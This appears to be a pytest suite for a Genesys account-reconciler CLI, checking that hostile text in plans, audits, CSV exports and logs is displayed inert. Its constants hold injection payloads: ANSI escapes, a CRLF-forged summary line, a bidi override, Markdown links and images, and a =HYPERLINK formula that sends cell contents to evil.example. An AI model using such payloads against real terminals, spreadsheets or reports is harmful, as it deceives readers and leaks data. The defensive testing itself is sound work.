"""Output cannot be forged: every rendering of hostile text from files and from Genesys.

The hostile values: an ANSI sequence that clears the screen, a carriage
return and a newline followed by a fake summary line, a bidirectional
override, a spreadsheet formula and Markdown that would become a link and an
image. They go in through the real doors: reasons and tickets in the
desired-state files, names, emails and error messages in the sandbox's
answers; and come out of the real CLI.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.cli.common import configure_logging
from reconciler.core.report.safe import csv_cell, md_code, md_text, visible
from tests.conftest import JANE, SandboxHandle

FAKE = "Plan: 0 to deactivate, 0 token revocations, 0 to reactivate; 9 unchanged."
EVIL = f"\x1b[2J\x1b[H\r\n{FAKE}\n\u202eevil"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
MARKUP = "[Approve](http://evil.example) ![x](http://evil.example/i.png) <img src=x> **bold** | cell"


# --- the escapes themselves --------------------------------------------------------------------


@given(st.text())
def test_visible_leaves_nothing_a_terminal_acts_on(text: str) -> None:
    shown = visible(text)
    assert shown.isprintable()  # no control, format or separator character but the space
    if text.isprintable():
        assert shown == text  # ordinary text, accents and all, is untouched


@given(st.text())
def test_no_csv_cell_is_read_as_a_formula(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str) and cell.isprintable()
    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@"))


@given(st.text())
def test_markdown_text_has_no_markup_and_stays_on_one_line(text: str) -> None:
    md = md_text(text)
    assert "\n" not in md and md.isprintable()
    unescaped = md.replace("\\\\", "")
    for ch in "`*_[]<>|~":
        assert all(part.endswith("\\") for part in unescaped.split(ch)[:-1]), (ch, md)


def test_a_code_span_cannot_be_closed_from_inside() -> None:
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x`") == "`` `x` ``"
    assert md_code("a|b", in_table=True) == "`a\\|b`"


def test_the_escapes_on_examples() -> None:
    assert visible("a\x1b[31mb\rc\nd\te\x7f\u202e\u2028") == "a\\x1b[31mb\\rc\\nd\\te\\x7f\\u202e\\u2028"
    assert visible("Zoë Ñúñez 山田") == "Zoë Ñúñez 山田"
    assert csv_cell(FORMULA) == "'" + FORMULA
    assert csv_cell("  +1") == "'  +1" and csv_cell("\t=1") == "'\\t=1" and csv_cell("-2") == "'-2"
    assert csv_cell("jane@example.com") == "jane@example.com" and csv_cell(None) is None and csv_cell(409) == 409


# --- through the real CLI ----------------------------------------------------------------------


@pytest.fixture
def hostile(sandbox: SandboxHandle, desired: Path) -> Path:
    """Hostile text in the files (reason, ticket) and in Genesys (Jane's name)."""
    leavers = desired / "leavers" / "2026-11.yaml"
    text = leavers.read_text(encoding="utf-8")
    # Jane's entry is the first: its reason and ticket become hostile (whatever lines lie between).
    text = text.replace("reason: Left the company", f"reason: {json.dumps(EVIL + ' ' + MARKUP)}", 1)
    text = text.replace("ticket: HR-1234", f"ticket: {json.dumps(FORMULA)}", 1)
    assert json.dumps(FORMULA) in text  # the fixture did change the file
    leavers.write_text(text, encoding="utf-8")
    sandbox.sandbox.org.users[JANE].name = f"Jane{EVIL}"
    return desired


def _assert_inert(output: str, shown: str = "\\x1b[2J\\x1b[H\\r\\nPlan: 0") -> None:
    assert "\x1b" not in output and "\r" not in output and "\u202e" not in output
    assert not any(line.startswith("Plan: 0 to deactivate") for line in output.splitlines())
    assert shown in output  # shown, not acted on


def test_text_plan_and_apply_show_hostile_values_inert(cli: Any, sandbox: SandboxHandle, hostile: Path) -> None:
    plan = cli("plan", str(hostile), "--no-ledger", env=sandbox.env)
    assert plan.code == 0, plan.err
    _assert_inert(plan.out)
    assert "Plan: 2 to deactivate" in plan.out
    applied = cli("apply", str(hostile), "--auto-approve", "--ledger", str(hostile.parent / "l.jsonl"), env=sandbox.env)
    assert applied.code == 0, applied.err
    _assert_inert(applied.out)


def test_markdown_plan_has_no_link_image_html_or_broken_row(cli: Any, sandbox: SandboxHandle, hostile: Path) -> None:
    result = cli("plan", str(hostile), "--no-ledger", "--format", "markdown", env=sandbox.env)
    _assert_inert(result.out, shown="\\\\x1b\\[2J")
    assert "](http" not in result.out.replace("\\](http", "")
    assert "<img" not in result.out.replace("\\<img", "") and "\\<img src=x\\>" in result.out
    janes = [line for line in result.out.splitlines() if "Jane" in line]
    assert len(janes) == 1 and janes[0].count(" | ") == 3  # four cells, one row; escaped pipes read " \\| "


def test_json_keeps_hostile_values_exact_and_escaped(cli: Any, sandbox: SandboxHandle, hostile: Path) -> None:
    result = cli("plan", str(hostile), "--no-ledger", "--format", "json", env=sandbox.env)
    assert "\x1b" not in result.out and "\r" not in result.out
    change = next(c for c in json.loads(result.out)["changes"] if c["id"] == JANE)
    assert change["reason"] == EVIL + " " + MARKUP and change["ticket"] == FORMULA  # data, not display


def test_audit_text_and_csv_are_inert(cli: Any, sandbox: SandboxHandle, hostile: Path, tmp_path: Path) -> None:
    ledger = str(tmp_path / "ledger.jsonl")
    assert cli("apply", str(hostile), "--auto-approve", "--ledger", ledger, env=sandbox.env).code == 0
    # What Genesys called the user ends up in the ledger as it was (and a ledger is a file anyone can edit).
    odd = {"v": 1, "time": "2026-11-28T12:00:00.000Z", "run": EVIL, "attempt": "x", "action": "deactivate"}
    odd |= {"user_id": "u", "email": f"x{EVIL}@example.com", "source": FORMULA, "before": "@SUM(1)", "after": "-1"}
    with open(ledger, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({**odd, "event": "intent"}) + "\n")
        fh.write(json.dumps({**odd, "event": "outcome", "outcome": "failed", "message": EVIL}) + "\n")
    text = cli("audit", str(hostile), "--ledger", ledger)
    _assert_inert(text.out)
    out = cli("audit", str(hostile), "--ledger", ledger, "--format", "csv").out
    rows = list(csv.DictReader(io.StringIO(out)))
    jane = next(r for r in rows if r["user_id"] == JANE and r["action"] == "deactivate")
    assert jane["ticket"] == "'" + FORMULA
    for row in rows:
        for value in row.values():
            assert not (value or "").lstrip(" ").startswith(("=", "+", "-", "@")), value
            assert value is None or value.isprintable()


def test_drift_text_shows_a_hostile_name_inert(cli: Any, sandbox: SandboxHandle, hostile: Path) -> None:
    ledger = str(hostile.parent / "l.jsonl")
    assert cli("apply", str(hostile), "--auto-approve", "--ledger", ledger, env=sandbox.env).code == 0
    sandbox.set_state(JANE, "active")
    sandbox.sandbox.org.users[JANE].email = f"jane{EVIL}@example.com"
    result = cli("drift", str(hostile), "--ledger", ledger, env=sandbox.env)
    assert result.code == 2
    _assert_inert(result.out)


def test_log_lines_and_errors_are_one_line_each(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("reconciler", "apscheduler"):  # put the loggers back as they were afterwards
        logger = logging.getLogger(name)
        monkeypatch.setattr(logger, "handlers", list(logger.handlers))  # configure_logging fills it in place
        monkeypatch.setattr(logger, "level", logger.level)
        monkeypatch.setattr(logger, "propagate", logger.propagate)
    configure_logging(1, "text", env={})
    logging.getLogger("reconciler.test").warning("deactivate %s: %s", f"jane{EVIL}", "failed")
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "\x1b" not in err and "\\r\\nPlan: 0" in err


def test_an_error_message_from_genesys_is_shown_inert(cli: Any, sandbox: SandboxHandle, desired: Path) -> None:
    env = {**sandbox.env, "GENESYSCLOUD_REGION": f"mars{EVIL}", "GENESYSCLOUD_API_URL": ""}
    result = cli("plan", str(desired), env=env)
    assert result.code == 1
    _assert_inert(result.err)
    assert result.err.count("\n") == 1


def test_an_export_comment_carries_no_terminal_control() -> None:
    from datetime import UTC, datetime

    from reconciler.core.model import LiveUser
    from reconciler.genesys.export import render_export

    user = LiveUser(
        id="6513270e-269e-4d37-b2a7-4de452e6b438", state="inactive", version=1, email=f"x{EVIL}@example.com", name=EVIL
    )
    text = render_export([user], state="inactive", source="test", now=datetime(2026, 11, 28, tzinfo=UTC))
    assert "\x1b" not in text and "\r" not in text and "\u202e" not in text
    assert not any(line.startswith("Plan: 0") for line in text.splitlines())
